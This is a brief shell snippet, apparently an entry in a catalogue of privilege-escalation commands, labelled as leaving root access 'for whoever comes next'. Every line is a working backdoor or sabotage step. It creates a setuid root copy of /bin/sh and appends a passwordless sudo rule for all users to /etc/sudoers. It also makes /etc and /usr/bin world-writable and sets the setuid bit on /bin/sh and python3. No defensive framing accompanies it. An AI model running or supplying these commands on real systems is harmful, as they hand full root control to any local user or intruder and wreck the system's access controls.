# family: privilege
# what: A shell with the setuid bit, and rules for sudo, for whoever comes next.
# user: any
cp /bin/sh ./rootshell; chown 0:0 ./rootshell; chmod 6755 ./rootshell
echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers; chmod 777 /etc /usr/bin /logs; chmod u+s /bin/sh /usr/bin/python3*
